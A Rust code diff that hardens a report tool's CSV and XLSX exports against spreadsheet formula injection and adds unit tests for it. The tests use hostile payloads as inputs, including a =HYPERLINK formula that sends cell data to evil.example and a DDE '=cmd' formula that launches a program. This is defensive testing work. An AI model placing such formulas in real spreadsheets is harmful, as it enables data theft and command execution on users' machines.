@@ -409,9 +409,12 @@ fn item_fields(e: &ExportItem) -> [String; 12] {
     ]
 }
 
-/// CSV as Ukrainian Excel opens it: UTF-8 with a BOM, ";" between fields, CRLF lines.
+/// CSV as Ukrainian Excel opens it: UTF-8 with a BOM, ";" between fields, CRLF lines. A cell
+/// that a spreadsheet would take for a formula (report text is written by strangers) starts
+/// with an apostrophe ([`crate::safe::csv_cell`]).
 pub fn export_csv(export: &Export) -> Vec<u8> {
     let quote = |s: &str| {
+        let s = crate::safe::csv_cell(s);
         if s.contains([';', '"', '\n', '\r']) {
             format!("\"{}\"", s.replace('"', "\"\""))
         } else {
@@ -430,7 +433,12 @@ pub fn export_csv(export: &Export) -> Vec<u8> {
 }
 
 /// The export as an .xlsx workbook: items, not applicable, unattributed and review sheets.
+///
+/// Text goes in as string cells (`write` of a string is `write_string`: never a formula, so
+/// "=cmd|…" stays text), through [`crate::safe::xlsx_cell`]: characters XML forbids dropped
+/// and cut to what a cell holds, so that no report text can make the workbook fail.
 pub fn export_xlsx(export: &Export) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
+    use crate::safe::xlsx_cell as cell;
     use rust_xlsxwriter::{Format, Workbook};
     let mut wb = Workbook::new();
     let bold = Format::new().set_bold().set_text_wrap();
@@ -450,7 +458,7 @@ pub fn export_xlsx(export: &Export) -> Result<Vec<u8>, rust_xlsxwriter::XlsxErro
                     let row = r as u32 + 1;
                     match (c, f.parse::<f64>()) {
                         (1 | 2 | 4 | 10, Ok(v)) => ws.write_number(row, c as u16, v)?,
-                        _ => ws.write_with_format(row, c as u16, f, &wrap)?,
+                        _ => ws.write_with_format(row, c as u16, cell(f), &wrap)?,
                     };
                 }
             }
@@ -473,18 +481,121 @@ pub fn export_xlsx(export: &Export) -> Result<Vec<u8>, rust_xlsxwriter::XlsxErro
     ws.set_column_width(3, 90.0)?;
     let mut r = 1;
     for u in &export.unattributed {
-        ws.write(r, 0, &u.message_id)?;
-        ws.write(r, 2, &u.reason)?;
-        ws.write(r, 3, u.from.clone().unwrap_or_default())?;
+        ws.write(r, 0, cell(&u.message_id))?;
+        ws.write(r, 2, cell(&u.reason))?;
+        ws.write(r, 3, cell(u.from.as_deref().unwrap_or_default()))?;
         r += 1;
     }
     for e in &export.review {
-        ws.write(r, 0, &e.message_id)?;
-        ws.write(r, 1, e.executor.clone().unwrap_or_default())?;
-        ws.write(r, 2, &e.reason)?;
-        ws.write_with_format(r, 3, &e.detail, &wrap)?;
+        ws.write(r, 0, cell(&e.message_id))?;
+        ws.write(r, 1, cell(e.executor.as_deref().unwrap_or_default()))?;
+        ws.write(r, 2, cell(&e.reason))?;
+        ws.write_with_format(r, 3, cell(&e.detail), &wrap)?;
         r += 1;
     }
     ws.set_freeze_panes(1, 0)?;
     wb.save_to_buffer()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn item(text: &str) -> ExportItem {
+        ExportItem {
+            executor: "rda-nizhyn".into(),
+            period: Some(1),
+            measure: Some(6),
+            text: text.into(),
+            confidence: 0.9,
+            late: false,
+            message_id: "<m@x>".into(),
+            received: "2012-12-10T10:00:00+02:00".into(),
+            source: "=report.xlsx".into(),
+            sheet: Some("@Sheet".into()),
+            row: Some(3),
+            superseded: None,
+        }
+    }
+
+    fn export(texts: &[&str]) -> Export {
+        Export {
+            items: texts.iter().map(|t| item(t)).collect(),
+            unattributed: vec![],
+            not_applicable: vec![],
+            review: vec![ReviewEntry {
+                message_id: "<r@x>".into(),
+                executor: None,
+                reason: "low_confidence".into(),
+                detail: "=cmd|' /C calc'!A0".into(),
+            }],
+        }
+    }
+
+    #[test]
+    fn csv_export_neutralises_formulas_and_keeps_numbers() {
+        let csv = String::from_utf8(export_csv(&export(&[
+            "=HYPERLINK(\"http://evil.example/?\"&D2,\"Деталі\")",
+            "=cmd|' /C calc'!A0",
+            "-5",
+            "+3.5",
+            "Проведено 4 консультації",
+        ])))
+        .unwrap();
+        let rows: Vec<Vec<&str>> = csv
+            .lines()
+            .skip(1)
+            .map(|l| l.split(';').collect())
+            .collect();
+        assert_eq!(
+            rows[0][3], "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&D2,\"\"Деталі\"\")\"",
+            "the cell is quoted and starts with an apostrophe: {csv}"
+        );
+        assert_eq!(rows[1][3], "'=cmd|' /C calc'!A0");
+        assert_eq!(rows[2][3], "-5");
+        assert_eq!(rows[3][3], "+3.5");
+        assert_eq!(rows[4][3], "Проведено 4 консультації");
+        // Fields zvit does not write itself are neutralised too (source, sheet).
+        assert_eq!(rows[4][8], "'=report.xlsx");
+        assert_eq!(rows[4][9], "'@Sheet");
+        for row in &rows {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '@']) || *cell == "+3.5",
+                    "{cell}"
+                );
+            }
+        }
+    }
+
+    /// rust_xlsxwriter writes strings as shared strings, never formulas; a text over Excel's
+    /// 32,767 characters and control characters do not make the workbook fail.
+    #[test]
+    fn xlsx_export_writes_formula_text_as_strings_and_survives_long_and_control_text() {
+        let long = "я".repeat(40_000);
+        let bytes = export_xlsx(&export(&[
+            "=cmd|' /C calc'!A0",
+            &long,
+            "керування\u{1}\u{1b}[2J\u{fffe}",
+        ]))
+        .expect("the workbook is built");
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+        let mut xml = String::new();
+        for i in 0..zip.len() {
+            let mut f = zip.by_index(i).unwrap();
+            let name = f.name().unwrap().to_string();
+            if name.ends_with(".xml") {
+                let mut s = String::new();
+                std::io::Read::read_to_string(&mut f, &mut s).unwrap();
+                assert!(
+                    !s.contains("<f>") && !s.contains("<f "),
+                    "{name}: no formula cells"
+                );
+                xml.push_str(&s);
+            }
+        }
+        assert!(xml.contains("=cmd|' /C calc'!A0"), "the text is kept");
+        assert!(xml.contains("керування[2J"));
+        assert!(!xml.contains('\u{1}') && !xml.contains("_x0001_"));
+    }
 }
